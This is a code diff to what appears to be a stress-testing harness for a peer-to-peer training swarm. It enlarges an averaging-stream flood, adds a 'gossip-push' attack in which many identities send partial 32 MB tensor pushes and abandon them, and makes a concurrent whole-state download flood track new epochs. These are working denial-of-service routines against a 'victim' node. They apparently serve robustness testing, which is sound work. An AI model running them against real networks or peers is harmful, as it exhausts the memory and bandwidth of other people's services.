@@ -534,7 +534,7 @@ async def large_subkeys(ctx: Context) -> dict:
 
 @attack("avg-part")
 async def avg_part(ctx: Context) -> dict:
-    """5,000 ``avg.part`` streams (one identity), each a header with a random 30 KB group id,
+    """5,000 ``avg.part`` streams (one identity), each a header with a random 60 KB group id,
     cancelled after 50 ms (needs ``--averaging``)."""
     prefix = ctx.info.get("averaging_prefix")
     if not prefix:
@@ -546,7 +546,7 @@ async def avg_part(ctx: Context) -> dict:
     async def one(i: int) -> None:
         stream = await peer.open_stream(ctx.victim, method, timeout=None)
         try:
-            await stream.send({"g": os.urandom(30_000), "p": 0, "t": b"", "i": 0, "w": 1.0})
+            await stream.send({"g": os.urandom(60_000), "p": 0, "t": b"", "i": 0, "w": 1.0})
             await asyncio.sleep(0.05)
         finally:
             stream.cancel()
@@ -556,46 +556,101 @@ async def avg_part(ctx: Context) -> dict:
     return {"streams": n, "errors": sum(isinstance(r, Exception) for r in results)}
 
 
+@attack("gossip-push")
+async def gossip_push(ctx: Context) -> dict:
+    """16 identities each start a gossip push whose tensor header matches the victim's sum (32 MB
+    of float64), send 24 MiB of it and never the rest (needs ``--averaging``)."""
+    gossip = ctx.info.get("gossip")
+    if not gossip:
+        raise SystemExit("gossip-push needs a victim with --averaging")
+    n = ctx.count(16)
+    streams, refused = [], []
+
+    async def one(i: int) -> None:
+        peer = await ctx.p2p()
+        stream = await peer.open_stream(ctx.victim, gossip["method"], timeout=None)
+        streams.append(stream)
+        await stream.send({"w": 1.0})
+        await stream.send({"dtype": "float64", "shape": gossip["shape"], "chunk": 1 << 20})
+        chunk = bytes(1 << 20)
+        for _ in range(24):
+            await stream.send(chunk)
+
+    results = await _gather_limited(n, 8, one, ctx)
+    await ctx.hold()
+    for stream in streams:
+        try:  # an answer (a refusal) or a failed stream: the victim let go of this push
+            await asyncio.wait_for(stream.recv(), 0.01)
+            refused.append(stream)
+        except asyncio.TimeoutError:
+            pass
+        except Exception:
+            refused.append(stream)
+        stream.cancel()
+    return {"pushes": n, "started": len(streams), "answered_or_failed": len(refused),
+            "errors": [str(r)[:100] for r in results if isinstance(r, Exception)][:3]}
+
+
 @attack("state-downloads")
 async def state_downloads(ctx: Context) -> dict:
-    """Against a daemon: read its state announcement (``{run}.state``), then 8 identities x 8
-    concurrent callers download the whole state (ranges of up to 16 MiB) again and again for the
-    hold time (at most 10,000 requests; a refused one is retried after 50 ms)."""
+    """Against a daemon: read its state announcement (``{run}.state``, re-read every 0.5 s: a new
+    state is published each epoch), and 8 identities x 8 concurrent callers download the whole
+    state (ranges of up to 16 MiB) again and again for the hold time (at most 10,000 requests; a
+    refused one is retried after 50 ms)."""
     from dht.node import DHTNode
 
     run = ctx.info["run"]
     reader = await DHTNode.create([ctx.victim], host=ctx.ip, client_mode=True)
-    try:
+    current: dict = {}
+
+    async def read_announcement() -> None:
         found = await reader.get(f"{run}.state", latest=True)
+        values = found.value.values() if found is not None and isinstance(found.value, dict) else []
+        announcements = [v.value for v in values if isinstance(v.value, dict) and "hash" in v.value]
+        if announcements:
+            current.update(max(announcements, key=lambda a: a.get("epoch", 0)))
+
+    stop = asyncio.Event()
+
+    async def refresh() -> None:
+        while not stop.is_set():
+            await asyncio.sleep(0.5)
+            try:
+                await read_announcement()
+            except Exception:
+                pass
+
+    try:
+        await read_announcement()
+        if not current:
+            return {"error": "no state announcement found"}
+        refresher = asyncio.ensure_future(refresh())
+        callers = [await ctx.p2p() for _ in range(8)]
+        budget = [ctx.count(10000)]
+        stats = {"state_bytes": int(current["size"]), "requests": 0, "ok": 0, "errors": {}, "mib_received": 0.0}
+        end = time.monotonic() + max(ctx.hold_s, 1.0)
+
+        async def loop(peer: P2P) -> None:
+            while budget[0] > 0 and time.monotonic() < end and ctx.time_left() > 10:
+                budget[0] -= 1
+                stats["requests"] += 1
+                request = {"hash": current["hash"], "offset": 0, "length": max(1, min(int(current["size"]), 16 << 20))}
+                ok, reply = await _call(peer, ctx.victim, f"swarm.state.{run}", request, timeout=30)
+                if ok and isinstance(reply, dict) and isinstance(reply.get("data"), bytes):
+                    stats["ok"] += 1
+                    stats["mib_received"] = round(stats["mib_received"] + len(reply["data"]) / (1 << 20), 1)
+                else:
+                    code = str(reply).split(" ")[0][:40]
+                    stats["errors"][code] = stats["errors"].get(code, 0) + 1
+                    await asyncio.sleep(0.05)
+
+        await asyncio.gather(*(loop(p) for p in callers for _ in range(8)))
+        stop.set()
+        await asyncio.gather(refresher, return_exceptions=True)
+        return stats
     finally:
+        stop.set()
         await reader.shutdown()
-    announcements = [v.value for v in (found.value.values() if found is not None and isinstance(found.value, dict) else [])
-                     if isinstance(v.value, dict) and "hash" in v.value]
-    if not announcements:
-        return {"error": "no state announcement found"}
-    state = max(announcements, key=lambda a: a.get("epoch", 0))
-    length = max(1, min(int(state["size"]), 16 << 20))
-    callers = [await ctx.p2p() for _ in range(8)]
-    budget = [ctx.count(10000)]
-    stats = {"state_bytes": int(state["size"]), "requests": 0, "ok": 0, "errors": {}, "mib_received": 0.0}
-    end = time.monotonic() + max(ctx.hold_s, 1.0)
-
-    async def loop(peer: P2P) -> None:
-        while budget[0] > 0 and time.monotonic() < end and ctx.time_left() > 10:
-            budget[0] -= 1
-            stats["requests"] += 1
-            ok, reply = await _call(peer, ctx.victim, f"swarm.state.{run}",
-                                    {"hash": state["hash"], "offset": 0, "length": length}, timeout=30)
-            if ok and isinstance(reply, dict) and isinstance(reply.get("data"), bytes):
-                stats["ok"] += 1
-                stats["mib_received"] = round(stats["mib_received"] + len(reply["data"]) / (1 << 20), 1)
-            else:
-                code = str(reply).split(":")[0][:40]
-                stats["errors"][code] = stats["errors"].get(code, 0) + 1
-                await asyncio.sleep(0.05)
-
-    await asyncio.gather(*(loop(p) for p in callers for _ in range(8)))
-    return stats
 
 
 async def _run(args: argparse.Namespace) -> dict:
